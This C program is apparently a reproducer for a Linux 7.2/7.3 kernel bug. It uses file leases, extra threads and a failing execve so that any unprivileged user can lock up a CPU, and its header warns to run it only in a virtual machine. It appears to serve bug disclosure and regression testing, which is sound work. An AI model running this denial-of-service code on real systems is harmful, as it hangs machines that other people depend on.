/* SPDX-License-Identifier: MIT */
/*
 * Locks up a CPU of Linux 7.2 or 7.3, for any user: TRY IT IN A VIRTUAL MACHINE
 * ONLY.  Nothing of clonexec is in it; docs/upstream.md explains it.
 *
 *	cid-leak [THREADS]
 *
 * More threads than CPUs (2 beside the first one on 2 CPUs, which is what is
 * taken by default) end while the first one is in an exec that fails late.
 * Then one is created.  Where the kernel is right it says so after 20 rounds.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

enum { ROUNDS = 20, MOST = 512 };

static char directory[] = "/tmp/cid-leak-XXXXXX";
static char script[64], interpreter[64];
static int lease;

static void check(int good, const char *what)
{
	if (good)
		return;
	perror(what);
	_exit(1);
}

static void put(const char *path, const char *text)
{
	int fd = open(path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0700);

	check(fd >= 0 && write(fd, text, strlen(text)) > 0, path);
	close(fd);
}

static void *end_soon(void *arg)
{
	usleep(50000);
	return arg;
}

/* The last one: the exec goes on a moment before this ends. */
static void *end_last(void *arg)
{
	sigset_t io;
	int signal;

	sigemptyset(&io);
	sigaddset(&io, SIGIO);
	sigwait(&io, &signal);
	usleep(100000);
	fcntl(lease, F_SETLEASE, F_UNLCK);
	return arg;
}

static void round_of(int threads)
{
	char *const argv[] = { script, NULL };
	pthread_t t[MOST];
	int i;

	lease = open(interpreter, O_RDONLY | O_CLOEXEC);
	check(lease >= 0 && !fcntl(lease, F_SETLEASE, F_WRLCK), "F_SETLEASE");
	for (i = 0; i < threads; i++)
		check(!pthread_create(&t[i], NULL, i ? end_soon : end_last,
				      NULL),
		      "pthread_create");
	execve(script, argv, argv + 1);
	check(errno == ENOEXEC, script);
	for (i = 0; i < threads; i++)
		pthread_join(t[i], NULL);
	close(lease);
}

int main(int argc, char **argv)
{
	int cpus = (int)sysconf(_SC_NPROCESSORS_CONF), i;
	int threads = argc > 1 ? atoi(argv[1]) : cpus;
	char text[80];
	sigset_t io;

	if (threads < 1 || threads > MOST)
		return 2;
	check(mkdtemp(directory) != NULL, "mkdtemp");
	snprintf(script, sizeof(script), "%s/s", directory);
	snprintf(interpreter, sizeof(interpreter), "%s/i", directory);
	snprintf(text, sizeof(text), "#!%s\n", interpreter);
	put(script, text);
	put(interpreter, "no program");
	sigemptyset(&io);
	sigaddset(&io, SIGIO);
	sigprocmask(SIG_BLOCK, &io, NULL);
	for (i = 0; i < ROUNDS; i++) {
		printf("round %d of %d\n", i + 1, ROUNDS);
		fflush(stdout);
		round_of(threads);
	}
	puts("no lockup");
	unlink(script);
	unlink(interpreter);
	rmdir(directory);
	return 0;
}
